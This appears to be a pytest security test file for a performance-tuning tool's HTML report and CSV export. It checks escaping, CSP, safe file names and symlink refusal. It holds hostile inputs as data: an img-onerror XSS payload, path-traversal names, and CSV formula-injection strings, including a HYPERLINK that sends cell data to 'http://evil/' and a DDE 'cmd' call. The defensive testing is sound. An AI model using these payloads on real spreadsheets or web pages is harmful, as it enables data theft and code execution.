"""The report of a store written by someone else: whatever the store holds is shown as text and runs no
script, a trial id that is not an integer refuses the run, the default file name is safe and never written
through a planted link, and the CSV export quotes what a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

import perftune
from perftune.cli import cli
from perftune.errors import StoreError
from perftune.report import (
    parameter_view,
    pareto_view,
    report_file_name,
    run_view,
    trials_view,
    view_json,
    write_html,
)
from perftune.space import Choice, Config, Int, Space
from perftune.store import open_store

CHROMIUM = os.environ.get("PERFTUNE_CHROMIUM", "/usr/bin/chromium")
_DRAWN = "(id) => { const e = document.getElementById(id); return !!e && !!e.querySelector('.main-svg'); }"
# Ran, it would mark the page: an attribute on <html> and a global, both checked after the page has loaded.
_PWNED = "() => document.documentElement.getAttribute('data-pwned') || (window.__pwned ? 'window' : null)"


def hostile(tag: str) -> str:
    """Markup that runs script if it is ever parsed as HTML; then the end of a <script> and the start of a
    comment (which would end or hide the rest of a script that holds it)."""
    return (f"<img src=x onerror=\"document.documentElement.setAttribute('data-pwned','{tag}');"
            f"window.__pwned=1\"></script><!--")


def _objective(config: Config) -> float:
    if config["x"] % 5 == 0:
        raise RuntimeError(hostile("reason"))
    return float((config["x"] - 17) ** 2 + 1 + 3 * (config["mode"] != hostile("choice")))


def build_hostile_store(path: str) -> None:
    """Run ``evil`` (every string it shows is markup; its name holds "/") and run ``tid`` (the id of its
    best trial stored as text, as SQLite allows)."""
    space = Space({"x": Int(0, 40), "mode": Choice([hostile("choice"), "plain", "-neg"]),
                   "k" + hostile("param"): Int(0, 3)})
    perftune.tune(_objective, space, budget=40, seed=1, store=path, name="evil")
    perftune.tune(_objective, space, budget=15, seed=2, store=path, name="tid")
    con = sqlite3.connect(path)
    try:
        (run_id,) = con.execute("select id from runs where name = 'evil'").fetchone()
        con.execute("update trials set technique = ?, worker = ? where run_id = ? and trial_id % 2 = 0",
                    (hostile("technique"), hostile("worker"), run_id))
        (environment,) = con.execute("select environment from runs where id = ?", (run_id,)).fetchone()
        env = json.loads(environment or "{}")
        env["hostname"], env["cpu"] = hostile("host"), hostile("cpu")
        con.execute("update runs set environment = ?, metric = ?, name = ? where id = ?",
                    (json.dumps(env), hostile("metric"), "evil/" + hostile("name"), run_id))
        (tid,) = con.execute("select id from runs where name = 'tid'").fetchone()
        (best,) = con.execute("select trial_id from trials where run_id = ? and status = 'ok' order by value "
                              "limit 1", (tid,)).fetchone()
        text_id = hostile("trial-id")
        con.execute("update samples set trial_id = ? where run_id = ? and trial_id = ?", (text_id, tid, best))
        con.execute("update trials set trial_id = ? where run_id = ? and trial_id = ?", (text_id, tid, best))
        con.commit()
    finally:
        con.close()


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> str:
    path = str(tmp_path_factory.mktemp("hostile") / "runs.db")
    build_hostile_store(path)
    return path


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    if not shutil.which(CHROMIUM):
        pytest.skip(f"no chromium at {CHROMIUM} (Debian: apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        try:
            yield browser
        finally:
            browser.close()


def _invoke(*args: str) -> Any:
    return CliRunner().invoke(cli, list(args))


def _evil_name(db: str) -> str:
    with open_store(db) as store:
        return next(r.name for r in store.list_runs() if r.name.startswith("evil/"))


# ------------------------------------------------------------------ trial ids


def test_a_trial_id_stored_as_text_refuses_the_run_with_one_line(hostile_db: str, tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    result = _invoke("--store", hostile_db, "report", "tid")
    assert result.exit_code == 2, result.output
    lines = result.output.strip().splitlines()
    # One line naming the run (the store's own check or the views' one, whichever reads the id first).
    assert len(lines) == 1 and re.search(r"run 'tid'.* not an integer", lines[0]), result.output
    assert list(tmp_path.iterdir()) == []  # no page written
    with open_store(hostile_db) as store:
        for view in (run_view, trials_view, parameter_view):
            with pytest.raises(StoreError, match=r"run 'tid'.* not an integer"):
                view(store, "tid")
        # The views of a sound run give every trial id as an integer.
        evil = store.get_run(_evil_name(hostile_db)).id
        view = run_view(store, evil)
        conv = view["convergence"]
        ids = conv["trial"] + conv["best_trial"] + view["credits"]["trial"] + [view["best"]["trial"]]
        ids += [t for f in conv["failed"].values() for t in f["trial"]]
        ids += [r["trial"] for r in trials_view(store, evil, limit=500)["rows"]]
        ids += parameter_view(store, evil)["trial"]
        assert ids and all(type(i) is int for i in ids)
        assert pareto_view(store, evil) is None


# ------------------------------------------------------------------ the page in a browser


def test_every_string_of_a_hostile_store_shows_as_text_and_runs_no_script(hostile_db: str, chromium: Any,
                                                                          tmp_path: Path) -> None:
    name = _evil_name(hostile_db)
    with open_store(hostile_db) as store:
        out = write_html(store, name, tmp_path / "evil.html")
    page = chromium.new_page(viewport={"width": 1280, "height": 900})
    errors: list[str] = []
    requests: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(str(e)))
    url = out.resolve().as_uri()
    page.route("**/*", lambda r: r.continue_() if r.request.url == url else (requests.append(r.request.url),
                                                                            r.abort()))
    try:
        page.goto(url)
        for element_id in ("convergence", "credits", "failures-plot"):
            page.wait_for_function(_DRAWN, arg=element_id, timeout=60_000)
        page.evaluate("document.getElementById('h-slices').scrollIntoView()")
        page.wait_for_function(_DRAWN, arg="parallel", timeout=60_000)
        page.wait_for_function(_DRAWN, arg="slice-0", timeout=60_000)
        # Under the page's Content-Security-Policy the parallel coordinates (WebGL) are still drawn.
        assert page.locator("#parallel .parcoords").count() == 1
        page.wait_for_function("() => document.querySelectorAll('#trial-table tbody tr').length > 0")
        assert page.evaluate(_PWNED) is None
        assert page.locator("img").count() == 0
        # The report carries its Content-Security-Policy: its own scripts, by their hashes, and nothing else.
        policy = page.get_attribute("meta[http-equiv='Content-Security-Policy']", "content")
        assert policy and policy.startswith("default-src 'none'; script-src 'sha256-")
        assert "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
        summary = page.inner_text("#run-summary")
        for tag in ("name", "metric", "host", "cpu"):
            assert hostile(tag) in summary, tag
        best = page.inner_text("#best")
        assert hostile("param") in best and hostile("choice") in best
        table = page.inner_text("#trial-table")
        for tag in ("technique", "worker", "reason"):
            assert hostile(tag) in table, tag
        # The configuration is shown as its JSON.
        page.fill("#t-text", "'choice'")
        page.wait_for_function(
            "() => !document.querySelector('#trial-table tbody').textContent.includes('plain')")
        assert json.dumps(hostile("choice"))[1:-1] in page.inner_text("#trial-table tbody")
        assert hostile("technique") in page.inner_text("#techniques")
        assert hostile("reason") in page.inner_text("#failure-table")
        # Every row's data-trial is the trial's integer id.
        assert all(t.isdigit() for t in page.eval_on_selector_all(
            "#trial-table tbody tr", "els => els.map((e) => e.dataset.trial)"))
        page.select_option("#t-technique", hostile("technique"))
        page.wait_for_function("() => document.querySelectorAll('#trial-table tbody tr').length > 0")
        assert page.evaluate(_PWNED) is None
    finally:
        page.close()
    assert requests == [] and errors == []


def _without_csp(page_text: str) -> str:
    """The page without its Content-Security-Policy: what the script's own escaping does, alone."""
    head, meta, rest = page_text.partition('<meta http-equiv="Content-Security-Policy"')
    assert meta, "the page has no policy"
    return head + rest.split(">", 1)[1]


def test_the_script_escapes_every_value_even_where_a_number_is_expected(chromium: Any, small_db: str,
                                                                        tmp_path: Path) -> None:
    """views.js on its own (no policy, views that did not check their ids): every value of its data, the
    numbers it expects included, is shown as text (a store's text trial id once reached it unescaped)."""
    from perftune.report import page_html

    with open_store(small_db) as store:
        view = run_view(store, "x")
        trials = trials_view(store, "x", limit=500)["rows"]
        params = parameter_view(store, "x")
    view["best"]["trial"] = hostile("best-trial")
    view["best"]["n_params"] = hostile("n-params")
    view["best"]["only_differing"] = True  # "N of M parameters differ" is shown
    view["run"]["id"] = hostile("run-id")
    view["pruned"] = hostile("pruned")
    view["techniques"][0]["trials"] = hostile("technique-trials")
    view["failures"] = [{"status": "failed", "label": "boom", "count": hostile("failure-count")}]
    trials[0]["trial"] = hostile("row-trial")
    trials[0]["samples"] = hostile("row-samples")
    view["objectives"] = [{"name": "a", "goal": "min"}, {"name": "b", "goal": "min"}]
    pareto = {"objectives": view["objectives"], "trial": [1, 2], "values": {"a": [1.0, 2.0], "b": [2.0, 1.0]},
              "feasible": [True, True], "n_ok": 2, "n_shown": 2, "n_front": 2,
              "front": {"trial": [hostile("front-trial"), 2], "values": {"a": [1.0, 2.0], "b": [2.0, 1.0]},
                        "technique": ["random", "random"], "config": ["{}", "{}"]}}
    run_row = {**view["run"], "n_trials": hostile("n-trials"), "n_failed": hostile("n-failed"),
               "budget_seconds": hostile("budget"), "progress": None}
    pages = {
        "run": {"run": view, "params": params, "pareto": pareto, "trials": trials, "n_trials_inlined": 8},
        "runs": {"runs": [run_row]},
        "compare": {"compare": {"goal": "min", "runs": [
            {"run": run_row, "best_trial": [0], "best_value": [1.0], "best_elapsed_s": [0.0],
             "n_trials": hostile("compare-trials"), "best": None}] * 2}},
    }
    for kind, data in pages.items():
        out = tmp_path / f"{kind}.html"
        config = {"mode": "static", "run": "x", "data": data}
        out.write_text(_without_csp(page_html(kind, title="t", config=config, inline=True)))
        page = chromium.new_page(viewport={"width": 1280, "height": 900})
        errors: list[str] = []
        page.on("pageerror", lambda e, errors=errors: errors.append(str(e)))
        try:
            page.goto(out.resolve().as_uri())
            page.wait_for_function("() => document.getElementById('content').querySelector('table')")
            if kind == "run":
                page.wait_for_function("() => document.querySelectorAll('#trial-table tbody tr').length > 0")
                page.wait_for_function(_DRAWN, arg="pareto", timeout=60_000)
            page.wait_for_timeout(500)
            assert page.evaluate(_PWNED) is None, kind
            assert page.locator("img").count() == 0, kind
            text = page.inner_text("#content")
            shown = {"run": ("best-trial", "n-params", "run-id", "pruned", "technique-trials",
                             "failure-count", "row-trial", "row-samples", "front-trial"),
                     "runs": ("n-trials", "n-failed", "budget"), "compare": ("compare-trials",)}[kind]
            for tag in shown:
                assert hostile(tag) in text, (kind, tag)
        finally:
            page.close()
        assert errors == [], (kind, errors)


def test_the_page_without_plots_shows_the_store_as_text_too(hostile_db: str, chromium: Any,
                                                           tmp_path: Path) -> None:
    name = _evil_name(hostile_db)
    with open_store(hostile_db) as store:
        out = write_html(store, name, tmp_path / "tables.html", plots=False)
    assert "<img" not in out.read_text() and "<script" not in out.read_text()
    page = chromium.new_page()
    try:
        page.goto(out.resolve().as_uri())
        assert page.evaluate(_PWNED) is None
        assert hostile("name") in page.inner_text("#run-summary")
        assert hostile("technique") in page.inner_text("main")
    finally:
        page.close()


def test_json_inlined_in_a_script_cannot_end_it() -> None:
    text = view_json({"s": "</script><!--<script>&\u2028\u2029", "n": -1.5})
    for raw in ("<", ">", "&", "\u2028", "\u2029"):
        assert raw not in text
    assert json.loads(text) == {"s": "</script><!--<script>&\u2028\u2029", "n": -1.5}


# ------------------------------------------------------------------ the file written


@pytest.mark.parametrize(("name", "expected"), [
    ("tune-gemm", "report-tune-gemm.html"),
    ("a/b", "report-a_b-7.html"),
    ("../../etc/x", "report-_.._etc_x-7.html"),
    (".hidden", "report-hidden-7.html"),
    ("..", "report-run-7.html"),
    ("\x1b[31mred\x07", "report-__31mred_-7.html"),
    ("\u202eevil", "report-_evil-7.html"),
])
def test_the_default_file_name_is_made_safe(name: str, expected: str) -> None:
    assert report_file_name(name, 7) == expected
    assert "/" not in report_file_name("x" * 300 + "/" + "名" * 300, 7)
    assert len(report_file_name("名" * 300, 7).encode()) < 255


def _rename(db: str, old: str, new: str) -> None:
    con = sqlite3.connect(db)
    try:
        con.execute("update runs set name = ? where name = ?", (new, old))
        con.commit()
    finally:
        con.close()


@pytest.fixture()
def small_db(tmp_path: Path) -> str:
    path = str(tmp_path / "store" / "runs.db")
    Path(path).parent.mkdir()
    perftune.tune(lambda c: float((c["x"] - 3) ** 2), Space({"x": Int(0, 9)}), budget=8, seed=0, store=path,
                  name="x")
    return path


def test_a_run_name_with_a_slash_writes_its_report_in_this_folder(small_db: str, tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    _rename(small_db, "x", "../escaped")
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    result = _invoke("--store", small_db, "report", "../escaped")
    assert result.exit_code == 0, result.output
    assert [p.name for p in work.iterdir()] == ["report-_escaped-1.html"]
    assert not (tmp_path / "escaped.html").exists() and not list(tmp_path.glob("report-*"))


def test_a_link_planted_at_the_default_name_is_refused(small_db: str, tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (tmp_path / "report-x.html").symlink_to(victim)
    result = _invoke("--store", small_db, "report", "x")
    assert result.exit_code == 2, result.output
    assert "report-x.html is a symbolic link" in result.output and "-o FILE" in result.output
    assert victim.read_text() == "precious\n" and (tmp_path / "report-x.html").is_symlink()
    # A hard link there is replaced, never written through.
    (tmp_path / "report-x.html").unlink()
    os.link(victim, tmp_path / "report-x.html")
    result = _invoke("--store", small_db, "report", "x")
    assert result.exit_code == 0, result.output
    assert victim.read_text() == "precious\n"
    assert "perftune run x" in (tmp_path / "report-x.html").read_text()
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_a_link_named_with_o_is_followed(small_db: str, tmp_path: Path) -> None:
    target = tmp_path / "site" / "index.html"
    target.parent.mkdir()
    target.write_text("old\n")
    link = tmp_path / "out.html"
    link.symlink_to(target)
    result = _invoke("--store", small_db, "report", "x", "-o", str(link))
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and "perftune run x" in target.read_text()
    help_text = " ".join(_invoke("report", "--help").output.split())
    assert "a symbolic link of that name is refused, not followed" in help_text and "made safe" in help_text


# ------------------------------------------------------------------ CSV


def test_the_csv_export_quotes_cells_a_spreadsheet_would_run(small_db: str, tmp_path: Path) -> None:
    text = {1: ('=HYPERLINK("http://evil/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd"),
            2: ("-2+3", "\t=1", "\r=1"),
            3: ("ok\r=cmd()", "-", "plain")}
    con = sqlite3.connect(small_db)
    try:
        for trial, (reason, technique, worker) in text.items():
            con.execute("update trials set reason = ?, technique = ?, worker = ? where trial_id = ?",
                        (reason, technique, worker, trial))
        con.execute("update trials set value = -1.5, loss = -1.5, metrics = ? where trial_id = 2",
                    (json.dumps({"delta": -4, "gain": 2.5}),))
        con.commit()
    finally:
        con.close()
    out = tmp_path / "trials.csv"
    result = _invoke("--store", small_db, "export", "x", "-o", str(out))
    assert result.exit_code == 0, result.output
    with out.open(newline="") as fh:
        rows = {r["trial"]: r for r in csv.DictReader(fh)}
    # A carriage return inside a cell does not start a row (whose first cell could be a formula).
    assert len(rows) == 8
    for trial, cells in text.items():
        got = rows[str(trial)]
        for column, stored in zip(("reason", "technique", "worker"), cells, strict=True):
            formula = stored.startswith(("=", "+", "-", "@", "\t", "\r"))
            assert got[column] == ("'" + stored if formula else stored), (trial, column)
    # Numbers stay numbers, negative ones too.
    assert rows["2"]["value"] == "-1.5" and rows["2"]["metric.delta"] == "-4"
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for r in rows.values() for v in r.values() if v)
    # JSON keeps the text as it is: it is no spreadsheet's.
    out_json = tmp_path / "trials.json"
    assert _invoke("--store", small_db, "export", "x", "-o", str(out_json)).exit_code == 0
    trials = json.loads(out_json.read_text())["trials"]
    assert next(t for t in trials if t["trial"] == 1)["reason"] == text[1][0]
    assert "starting with =, +, -, @, a tab or a carriage return gets a leading '" in " ".join(
        _invoke("export", "--help").output.split())
